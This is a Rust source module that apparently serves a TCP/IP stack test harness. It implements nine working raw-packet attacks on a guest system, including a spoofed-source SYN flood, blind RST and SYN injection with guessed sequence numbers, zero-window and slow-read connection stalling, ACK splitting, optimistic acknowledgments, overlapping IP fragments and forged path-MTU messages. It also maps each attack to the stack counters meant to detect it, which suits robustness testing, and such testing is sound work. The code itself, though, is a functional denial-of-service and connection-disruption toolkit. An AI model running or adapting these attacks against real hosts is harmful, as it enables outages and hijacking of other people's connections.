//! The attacks: each goes on until it is told to stop, as fast as one thread can.

use super::raw::{ACK, Heard, RST, Raw, SYN, Segment, Victim};
use crate::options::from_name;
use serde::{Deserialize, Serialize};
use std::collections::HashMap;
use std::fmt;
use std::io;
use std::net::{Ipv4Addr, SocketAddrV4};
use std::str::FromStr;
use std::sync::atomic::{AtomicBool, Ordering};
use std::time::Duration;

const PORT: u16 = 80;
/// The first source port of an attacker's own connections.
const FIRST_PORT: u16 = 20_000;

/// What is done to the guest.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "kebab-case")]
pub enum Attack {
    /// SYNs from ever new addresses and ports, never completed.
    SynFlood,
    /// RSTs, SYNs, data and acknowledgments with guessed numbers, between the ports of somebody's connection (RFC 5961).
    Blind,
    /// Connections that ask for much and announce a window of zero for ever.
    ZeroWindow,
    /// Connections that ask for segments of one byte.
    TinySegments,
    /// Connections that take 64 bytes at a time.
    SlowRead,
    /// Each byte is acknowledged by itself, as if each were a segment (RFC 3465).
    AckSplitting,
    /// What has not arrived is acknowledged, and what was never sent.
    OptimisticAcks,
    /// Datagrams whose fragments overlap (RFC 5722).
    OverlappingFragments,
    /// "Fragmentation needed" about somebody's connection, with guessed numbers and an MTU of 68 (RFC 5927).
    PathMtu,
}

impl Attack {
    /// All of them.
    pub const ALL: [Self; 9] = [
        Self::SynFlood,
        Self::Blind,
        Self::ZeroWindow,
        Self::TinySegments,
        Self::SlowRead,
        Self::AckSplitting,
        Self::OptimisticAcks,
        Self::OverlappingFragments,
        Self::PathMtu,
    ];

    /// Statistics by layer and name of which at least one says that it happens.
    pub fn named_by(self) -> &'static [(&'static str, &'static str)] {
        match self {
            Self::SynFlood => &[("tcp", "syn_cookies_sent"), ("tcp", "half_open_evicted")],
            Self::Blind => &[("tcp", "challenge_acks"), ("tcp", "challenge_acks_limited")],
            Self::ZeroWindow => &[("tcp", "windows_held"), ("tcp", "window_probes")],
            Self::TinySegments => &[("tcp", "small_mss_in")],
            Self::SlowRead => &[("tcp", "small_segs_out")],
            Self::AckSplitting => &[("tcp", "split_acks_in")],
            Self::OptimisticAcks => &[("tcp", "optimistic_acks")],
            Self::OverlappingFragments => &[("ip", "fragments")],
            Self::PathMtu => &[("tcp", "unacceptable_in")],
        }
    }

    /// Connections of the attacker's own.
    fn connections(self) -> u16 {
        match self {
            Self::ZeroWindow | Self::SlowRead => 400,
            Self::TinySegments | Self::AckSplitting | Self::OptimisticAcks => 4,
            _ => 0,
        }
    }

    /// Attacks until it is over; `victim` is the address of an honest client's connection. Returns the frames sent.
    ///
    /// Fails if the host lets nobody make frames.
    pub fn run(
        self,
        guest: &Victim,
        victim: SocketAddrV4,
        target: &str,
        over: &AtomicBool,
    ) -> io::Result<u64> {
        let mut random = Random(0x9e37_79b9_7f4a_7c15);
        if self.connections() > 0 {
            let raw = Raw::hearing(guest)?;
            let stalling = Stalling { attack: self, raw, known: HashMap::new(), target, next: FIRST_PORT };
            return Ok(stalling.run(over));
        }
        let mut raw = Raw::new(guest)?;
        let mut number = 0u32;
        while !over.load(Ordering::Relaxed) {
            match self {
                Self::SynFlood => syn(&mut raw, guest.host, number),
                Self::Blind => blind(&mut raw, victim, number, &mut random),
                Self::OverlappingFragments => overlap(&mut raw, guest.host, number),
                _ => raw.send_too_large(PORT, (*victim.ip(), victim.port()), random.next() as u32, 68),
            }
            number += 1;
        }
        Ok(raw.sent)
    }
}

impl fmt::Display for Attack {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.pad(match self {
            Self::SynFlood => "SYN flood",
            Self::Blind => "blind segments",
            Self::ZeroWindow => "closed windows",
            Self::TinySegments => "tiny segments",
            Self::SlowRead => "slow readers",
            Self::AckSplitting => "split acknowledgments",
            Self::OptimisticAcks => "optimistic acknowledgments",
            Self::OverlappingFragments => "overlapping fragments",
            Self::PathMtu => "forged path MTUs",
        })
    }
}

/// Names as in the JSON.
impl FromStr for Attack {
    type Err = String;
    fn from_str(name: &str) -> Result<Self, String> {
        from_name(
            name,
            "syn-flood, blind, zero-window, tiny-segments, slow-read, ack-splitting, optimistic-acks, \
             overlapping-fragments, path-mtu",
        )
    }
}

/// xorshift64*.
struct Random(u64);

impl Random {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        self.0.wrapping_mul(0x2545_f491_4f6c_dd1d) >> 16
    }
}

/// An address of the host's network that nobody has.
fn stranger(host: Ipv4Addr, number: u32) -> Ipv4Addr {
    let [a, b, c, _] = host.octets();
    Ipv4Addr::new(a, b, c, 70 + (number % 180) as u8)
}

fn syn(raw: &mut Raw, host: Ipv4Addr, number: u32) {
    raw.send(&Segment {
        from: (stranger(host, number / 60_000), (number % 60_000) as u16 + 1),
        to_port: PORT,
        sequence: number,
        acknowledgment: 0,
        flags: SYN,
        window: 65_535,
        options: &[],
        payload: &[],
    });
}

fn blind(raw: &mut Raw, victim: SocketAddrV4, number: u32, random: &mut Random) {
    let (flags, payload) =
        [(RST, &b""[..]), (SYN, b""), (ACK, b"GET /"), (ACK, b""), (RST | ACK, b"")][number as usize % 5];
    raw.send(&Segment {
        from: (*victim.ip(), victim.port()),
        to_port: PORT,
        sequence: random.next() as u32,
        acknowledgment: random.next() as u32,
        flags,
        window: 0,
        options: &[],
        payload,
    });
}

/// Two pieces of a datagram, of which the second overlaps the first.
fn overlap(raw: &mut Raw, host: Ipv4Addr, number: u32) {
    let (source, identification) = (stranger(host, number), (number / 180) as u16);
    for place in [0, 2] {
        let packet = [&raw.ip(source, 17, identification, 0x2000 | place, 32)[..], &[0x5a; 32]].concat();
        raw.send_packet(&packet);
    }
}

/// One of the attacker's connections: its next number and the next that the guest sends.
#[derive(Clone, Copy, Debug)]
struct Own {
    sequence: u32,
    expected: u32,
    open: bool,
}

/// An attacker who opens connections and asks for something large on each.
struct Stalling<'a> {
    attack: Attack,
    raw: Raw,
    known: HashMap<u16, Own>,
    target: &'a str,
    next: u16,
}

impl Stalling<'_> {
    fn run(mut self, over: &AtomicBool) -> u64 {
        while !over.load(Ordering::Relaxed) {
            if self.known.len() < usize::from(self.attack.connections()) {
                self.open();
            }
            match self.raw.hear(Duration::from_millis(if self.known.len() < 400 { 0 } else { 2 })) {
                Some(heard) => self.answer(heard),
                None => std::thread::sleep(Duration::from_micros(100)),
            }
        }
        // Nobody is left waiting for what does not come.
        for (port, own) in std::mem::take(&mut self.known) {
            self.send(port, own, RST | ACK, own.expected, b"");
        }
        self.raw.sent
    }

    fn window(&self) -> u16 {
        match self.attack {
            Attack::ZeroWindow => 0,
            Attack::SlowRead => 64,
            _ => 65_535,
        }
    }

    fn open(&mut self) {
        let port = self.next;
        self.next = FIRST_PORT + (port - FIRST_PORT + 1) % 40_000;
        let options: &[u8] =
            if self.attack == Attack::TinySegments { &[2, 4, 0, 1] } else { &[2, 4, 5, 180] };
        let own = Own { sequence: u32::from(port) << 12, expected: 0, open: false };
        let from = (self.raw.own, port);
        let (flags, window) = (SYN, self.window());
        self.raw.send(&Segment {
            from,
            to_port: PORT,
            sequence: own.sequence,
            acknowledgment: 0,
            flags,
            window,
            options,
            payload: b"",
        });
        self.known.insert(port, Own { sequence: own.sequence.wrapping_add(1), ..own });
    }

    fn send(&mut self, port: u16, own: Own, flags: u8, acknowledgment: u32, payload: &[u8]) {
        let (from, window) = ((self.raw.own, port), self.window());
        let sequence = own.sequence;
        self.raw.send(&Segment {
            from,
            to_port: PORT,
            sequence,
            acknowledgment,
            flags,
            window,
            options: &[],
            payload,
        });
    }

    fn ask(&mut self, port: u16) {
        let request = format!("GET {} HTTP/1.1\r\nHost: a\r\n\r\n", self.target);
        let Some(own) = self.known.get(&port).copied() else { return };
        self.send(port, own, ACK, own.expected, request.as_bytes());
        self.known.insert(
            port,
            Own { sequence: own.sequence.wrapping_add(request.len() as u32), open: true, ..own },
        );
    }

    fn answer(&mut self, heard: Heard) {
        let port = heard.to_port;
        let Some(mut own) = self.known.get(&port).copied() else { return };
        if heard.flags & RST != 0 {
            self.known.remove(&port);
            return;
        }
        if heard.flags & SYN != 0 {
            if !own.open {
                own.expected = heard.sequence.wrapping_add(1);
                self.known.insert(port, own);
                self.ask(port);
            }
            return;
        }
        let before = own.expected;
        if heard.sequence == own.expected && self.attack != Attack::ZeroWindow {
            own.expected = own.expected.wrapping_add(heard.len);
            self.known.insert(port, own);
        }
        if heard.len == 0 {
            return;
        }
        match self.attack {
            Attack::AckSplitting => {
                for byte in (1..=own.expected.wrapping_sub(before)).step_by(16) {
                    self.send(port, own, ACK, before.wrapping_add(byte), b"");
                }
            }
            Attack::OptimisticAcks => {
                // What may be on its way, and what cannot be.
                self.send(port, own, ACK, own.expected.wrapping_add(2_920), b"");
                self.send(port, own, ACK, own.expected.wrapping_add(1 << 20), b"");
            }
            _ => {}
        }
        self.send(port, own, ACK, own.expected, b"");
        // Another when this one may be over.
        if own.expected.wrapping_sub(before) > 0 && heard.flags & 8 != 0 {
            self.ask(port);
        }
    }
}
